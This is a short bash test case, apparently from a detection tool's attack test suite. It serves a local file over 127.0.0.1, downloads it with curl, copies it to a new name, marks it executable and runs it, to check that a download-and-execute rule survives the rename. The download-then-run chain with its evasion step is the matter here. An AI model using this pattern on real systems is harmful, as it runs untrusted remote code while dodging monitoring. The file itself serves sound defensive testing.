# technique: T1105 the download is copied (cp) to another name before it runs: the copy keeps its network origin
# rule: download_and_execute
# evasion-of: 100_curl_download_run
# exe: /tmp/vg-attacks-*/tool
. "$(dirname "$0")/common.bash"
fetchable tool
serve_dir "$VG_TMP/www"
curl -sf -o "$VG_TMP/dl" "http://127.0.0.1:$VG_PORT/tool"
cp "$VG_TMP/dl" "$VG_TMP/tool"
chmod +x "$VG_TMP/tool"
"$VG_TMP/tool"
